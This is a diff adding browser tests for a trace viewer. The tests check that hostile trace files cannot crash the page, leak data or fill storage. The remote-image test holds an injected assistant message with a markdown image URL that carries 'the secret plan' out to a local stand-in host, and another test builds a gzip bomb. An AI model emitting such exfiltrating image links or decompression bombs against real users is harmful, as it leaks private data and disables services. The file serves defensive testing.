@@ -1,0 +1,293 @@
+"""A trace is untrusted input: whatever a file holds, the page keeps
+working, loads nothing from elsewhere on its own, keeps no trace data in
+storage, and runs nothing the file wrote."""
+
+import gzip
+import http.server
+import json
+import os
+import pathlib
+import threading
+import zlib
+
+from selenium.webdriver.common.by import By
+from selenium.webdriver.support.ui import WebDriverWait
+
+from conftest import console_errors, take_csp_violations
+from harness import serve
+from test_viewer import WAIT_SECONDS, open_demo, open_files, parsed_where, row_named, tiny_png, wait_for, wait_text, write_json
+
+# The next load's worker dies as a crashed one does (out of memory, a stack
+# overflow, a panic): it is ended and the page gets its error event. Only
+# that load: later ones run as usual.
+KILL_THE_NEXT_LOADS_WORKER = """
+window.__killNextLoad = true;
+const post = Worker.prototype.postMessage;
+Worker.prototype.postMessage = function (message, transfer) {
+  if (window.__killNextLoad && message && message.inputs !== undefined) {
+    window.__killNextLoad = false;
+    this.terminate();
+    setTimeout(() => this.dispatchEvent(new ErrorEvent('error', {message: 'Uncaught RuntimeError: unreachable'})), 0);
+    return;
+  }
+  return post.call(this, message, transfer);
+};
+"""
+
+
+def one_span_trace(path: pathlib.Path, name: str) -> pathlib.Path:
+    return write_json(path, {"resourceSpans": [{"scopeSpans": [{"spans": [{
+        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": name,
+        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
+    }]}]}]})
+
+
+def test_a_worker_that_dies_fails_its_load_and_the_page_goes_on(driver, app_url, tmp_path: pathlib.Path):
+    script = driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": KILL_THE_NEXT_LOADS_WORKER})
+    try:
+        open_demo(driver, app_url)
+    finally:
+        driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": script["identifier"]})
+    file_input = driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]")
+    file_input.send_keys(str(one_span_trace(tmp_path / "killer.json", "never shown")))
+    error = wait_for(driver, "[data-testid=load-error]").text
+    assert error == "the file could not be read: Uncaught RuntimeError: unreachable"
+    # The page did not read it on its own thread, where it would die as well.
+    assert parsed_where(driver) == []
+    # It goes on: the next file opens (in a worker), and so does the demo.
+    file_input = driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]")
+    file_input.send_keys(str(one_span_trace(tmp_path / "next.json", "the next file")))
+    wait_text(driver, "[data-testid=trace-name]", "the next file")
+    assert parsed_where(driver) == ["in-worker"]
+    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
+    driver.find_element(By.CSS_SELECTOR, "[data-testid=open-demo]").click()
+    wait_text(driver, "[data-testid=trace-name]", "invoke_agent trip_planner")
+    assert console_errors(driver) == []
+
+
+class RecordingServer:
+    """A server on 127.0.0.1 that notes every request and answers a PNG:
+    what a host an answer points at would learn."""
+
+    def __init__(self):
+        requests = self.requests = []
+        picture = tiny_png(2, 2)
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self):  # noqa: N802 - the base class's name
+                requests.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.send_header("Content-Length", str(len(picture)))
+                self.end_headers()
+                self.wfile.write(picture)
+
+            def log_message(self, format, *args):  # noqa: A002
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+
+
+def chat_span_trace(path: pathlib.Path, name: str, parts, extra_attributes=()) -> pathlib.Path:
+    output = json.dumps([{"role": "assistant", "parts": parts}])
+    return write_json(path, {"resourceSpans": [{"scopeSpans": [{"spans": [{
+        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": name,
+        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
+        "attributes": [
+            {"key": "gen_ai.operation.name", "value": {"stringValue": "chat"}},
+            {"key": "gen_ai.output.messages", "value": {"stringValue": output}},
+            *extra_attributes,
+        ],
+    }]}]}]})
+
+
+def test_remote_images_load_only_when_clicked(driver, app_url, tmp_path: pathlib.Path):
+    host = RecordingServer()
+    try:
+        parts = [
+            {"type": "text", "content": f"Here is your summary. ![chart]({host.url}/exfil.png?d=the+secret+plan)"},
+            {"type": "uri", "modality": "image", "mime_type": "image/png", "uri": f"{host.url}/media.png?d=more"},
+        ]
+        open_files(driver, app_url, chat_span_trace(tmp_path / "exfil.json", "chat injected", parts))
+        wait_text(driver, "[data-testid=trace-name]", "chat injected")
+        row_named(driver, "chat injected").click()
+        messages = wait_for(driver, "[data-testid=messages]")
+        placeholders = messages.find_elements(By.CSS_SELECTOR, ".sl-remote-image")
+        assert [p.text for p in placeholders] == [
+            "Image from 127.0.0.1:%s: chart (click to load)" % host.url.rsplit(":", 1)[1],
+            "Image from 127.0.0.1:%s (click to load)" % host.url.rsplit(":", 1)[1],
+        ]
+        assert messages.find_elements(By.CSS_SELECTOR, "img") == []
+        # The Conversation view shows the same answer, with the same placeholders.
+        driver.find_element(By.CSS_SELECTOR, "[data-testid=view-conversation]").click()
+        conversation = wait_for(driver, "[data-testid=conversation]")
+        assert len(conversation.find_elements(By.CSS_SELECTOR, ".sl-remote-image")) == 2
+        assert conversation.find_elements(By.CSS_SELECTOR, "img") == []
+        driver.execute_script("return new Promise(resolve => setTimeout(resolve, 0))")
+        assert host.requests == [], "nothing was asked of the host before a click"
+        # A click asks for that image only; the page's policy allows https
+        # images, so this http one is refused and reported as such.
+        conversation.find_element(By.CSS_SELECTOR, "button.sl-remote-image").click()
+        image = conversation.find_element(By.CSS_SELECTOR, "img")
+        assert image.get_attribute("src") == f"{host.url}/exfil.png?d=the+secret+plan"
+        WebDriverWait(driver, WAIT_SECONDS).until(lambda d: take_csp_violations(d))
+    finally:
+        host.close()
+
+
+def test_recent_files_keep_no_data_in_storage(driver, app_url, tmp_path: pathlib.Path):
+    driver.get(app_url)
+    driver.execute_script("sessionStorage.clear()")
+    secret_span = "span name only in the file"
+    open_files(driver, app_url, one_span_trace(tmp_path / "private.json", secret_span))
+    wait_text(driver, "[data-testid=trace-name]", secret_span)
+    (tmp_path / "served").mkdir()
+    one_span_trace(tmp_path / "served" / "signed.json", "served span")
+    url, server = serve(tmp_path / "served", cors=True)
+    try:
+        # Fetched from the start screen, in the same page.
+        driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
+        address = driver.find_element(By.CSS_SELECTOR, "#sl-url")
+        address.send_keys(f"{url}signed.json?X-Signature=s3cr3t-token")
+        address.submit()
+        wait_text(driver, "[data-testid=trace-name]", "served span")
+    finally:
+        server.shutdown()
+    stored = driver.execute_script("return sessionStorage.getItem('spanloupe.recent')")
+    assert secret_span not in stored and "served span" not in stored and "traceId" not in stored, stored
+    assert "s3cr3t" not in stored and f"{url}signed.json" in stored, stored
+    # The data stays in the page's memory: it opens again while the page lives.
+    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
+    names = [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".sl-recent__name")]
+    assert names == [f"{url}signed.json", "private.json"], names
+    driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item")[1].find_element(By.CSS_SELECTOR, "button").click()
+    wait_text(driver, "[data-testid=trace-name]", secret_span)
+    # After a reload the list is there, without its data.
+    driver.get(app_url)
+    wait_for(driver, "[data-testid=trace-name]")
+    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
+    assert len(driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item")) == 2
+    assert driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item button") == []
+    driver.find_element(By.CSS_SELECTOR, "[data-testid=forget-recent]").click()
+    assert driver.find_elements(By.CSS_SELECTOR, ".sl-recent__item") == []
+    assert driver.execute_script("return sessionStorage.getItem('spanloupe.recent')") is None
+
+
+def test_a_list_stored_with_file_contents_by_an_older_version_loses_them(driver, app_url):
+    driver.get(app_url)
+    old = [{"name": "old.json", "bytes": 10, "format": "OTLP JSON", "spans": 1, "traces": 1, "content": "{\"private\": 1}"}]
+    driver.execute_script("sessionStorage.setItem('spanloupe.recent', arguments[0])", json.dumps(old))
+    driver.get(app_url)
+    wait_for(driver, "[data-testid=trace-name]")
+    driver.find_element(By.CSS_SELECTOR, ".sl-logo").click()
+    wait_text(driver, ".sl-recent__name", "old.json")
+    stored = driver.execute_script("return sessionStorage.getItem('spanloupe.recent')")
+    assert "private" not in stored and "old.json" in stored, stored
+
+
+def test_a_file_over_the_limit_is_refused_with_its_size(driver, app_url, tmp_path: pathlib.Path):
+    # Sparse: 2.1 GB on paper, nothing on disk. Refused before it is read.
+    path = tmp_path / "huge.json"
+    with open(path, "wb") as file:
+        file.truncate(2_100_000_000)
+    open_demo(driver, app_url)
+    driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]").send_keys(str(path))
+    error = wait_for(driver, "[data-testid=load-error]").text
+    assert error.startswith("this file is 2.1 GB; the limit in this browser is 1.5 GB"), error
+    assert parsed_where(driver) == []
+
+
+def test_a_gzip_bomb_stops_at_the_limit(driver, app_url, tmp_path: pathlib.Path):
+    # 1.6 GB of zeros in 1.6 MB of gzip: the worker stops inflating at the
+    # limit and says so, instead of running out of memory.
+    path = tmp_path / "bomb.json.gz"
+    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
+    zeros = bytes(64 << 20)
+    with open(path, "wb") as file:
+        for _ in range(24):
+            file.write(compressor.compress(zeros))
+        file.write(compressor.flush())
+    assert path.stat().st_size < 3_000_000
+    open_demo(driver, app_url)
+    driver.find_element(By.CSS_SELECTOR, "[data-testid=file-input]").send_keys(str(path))
+    error = WebDriverWait(driver, 120).until(lambda d: d.find_elements(By.CSS_SELECTOR, "[data-testid=load-error]"))[0].text
+    assert "decompressed, this file is over 1.5 GB; the limit in this browser is 1.5 GB" in error, error
+    # The page goes on.
+    driver.find_element(By.CSS_SELECTOR, "[data-testid=open-demo]").click()
+    wait_text(driver, "[data-testid=trace-name]", "invoke_agent trip_planner")
+
+
+def test_a_key_of_100000_levels_opens_from_a_deep_link(driver, app_url, tmp_path: pathlib.Path):
+    # OpenLLMetry's indexed keys are rebuilt into a tree when the span is
+    # shown; a key of 100,000 dots was as many levels of recursion.
+    deep = "gen_ai.prompt.0.content" + ".a" * 100_000
+    path = write_json(tmp_path / "deep.json", {"resourceSpans": [{"scopeSpans": [{"spans": [{
+        "traceId": "0af7651916cd43dd8448eb211c80319c", "spanId": "b7ad6b7169203331", "name": "chat deep",
+        "startTimeUnixNano": "1000", "endTimeUnixNano": "2000",
+        "attributes": [
+            {"key": "gen_ai.system", "value": {"stringValue": "openai"}},
+            {"key": "gen_ai.prompt.0.role", "value": {"stringValue": "user"}},
+            {"key": deep, "value": {"stringValue": "deep value"}},
+        ],
+    }]}]}]})
+    served = tmp_path / "deep"
+    served.mkdir()
+    path.rename(served / "deep.json")
+    url, server = serve(served, cors=True)
+    try:
+        driver.get(f"{app_url}?url={url}deep.json#trace=0af7651916cd43dd8448eb211c80319c&span=b7ad6b7169203331")
+        wait_text(driver, "[data-testid=trace-name]", "chat deep")
+        warning = wait_for(driver, "[data-testid=call-warning]").text
+        assert warning == "1 attribute key nests deeper than 32 levels: past that, the rest of the key is read as one name"
+        assert console_errors(driver) == []
+    finally:
+        server.shutdown()
+
+
+def many_traces(path: pathlib.Path, traces: int) -> pathlib.Path:
+    """`traces` traces of a root and a child each, started a second apart."""
+    spans = []
+    for t in range(traces):
+        trace_id = f"{t + 1:032x}"
+        start = 1_700_000_000_000_000_000 + t * 1_000_000_000
+        spans.append({"traceId": trace_id, "spanId": f"{2 * t + 1:016x}", "name": f"GET /orders/{t}",
+                      "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + 5_000_000 + t)})
+        spans.append({"traceId": trace_id, "spanId": f"{2 * t + 2:016x}", "parentSpanId": f"{2 * t + 1:016x}",
+                      "name": "SELECT orders", "startTimeUnixNano": str(start + 1000), "endTimeUnixNano": str(start + 2000)})
+    resource = {"attributes": [{"key": "service.name", "value": {"stringValue": "orders"}}]}
+    return write_json(path, {"resourceSpans": [{"resource": resource, "scopeSpans": [{"spans": spans}]}]})
+
+
+def test_a_file_of_many_traces_draws_only_the_rows_on_screen(driver, app_url, tmp_path: pathlib.Path):
+    open_files(driver, app_url, many_traces(tmp_path / "many.json", 20_000))
+    wait_text(driver, "[data-testid=trace-list-summary]", "20,000 traces · 40,000 spans")
+    names = lambda: [e.text for e in driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")]  # noqa: E731
+    drawn = names()
+    assert drawn[0] == "GET /orders/0" and 20 <= len(drawn) <= 60, drawn
+    assert len(driver.find_elements(By.CSS_SELECTOR, "tr")) < 100
+    # Scrolled to the end: the last traces, in the same few elements.
+    box = driver.find_element(By.CSS_SELECTOR, "[data-testid=trace-list-rows]")
+    driver.execute_script("arguments[0].scrollTop = arguments[0].scrollHeight", box)
+    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: names() and names()[-1] == "GET /orders/19999")
+    assert len(names()) <= 60
+    # The last row is inside the box, not cut off below it.
+    last = driver.find_elements(By.CSS_SELECTOR, "[data-testid=trace-row]")[-1]
+    assert driver.execute_script(
+        "const a = arguments[0].getBoundingClientRect(), b = arguments[1].getBoundingClientRect();"
+        "return a.bottom <= b.bottom + 1 && a.top >= b.top", last, box)
+    # Sorting and filtering still see every trace.
+    driver.find_element(By.XPATH, "//th//button[starts-with(normalize-space(), 'Duration')]").click()
+    driver.execute_script("arguments[0].scrollTop = 0", box)
+    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: names() and names()[0] == "GET /orders/19999")
+    search = driver.find_element(By.CSS_SELECTOR, "[aria-label='Filter traces']")
+    search.send_keys("orders/1234")
+    expected = sorted(["GET /orders/1234"] + [f"GET /orders/1234{d}" for d in range(10)])
+    WebDriverWait(driver, WAIT_SECONDS).until(lambda d: sorted(names()) == expected)
+    driver.find_elements(By.CSS_SELECTOR, ".sl-trace-row__name")[0].click()
+    wait_for(driver, "[data-testid=waterfall]")
+    assert console_errors(driver) == []
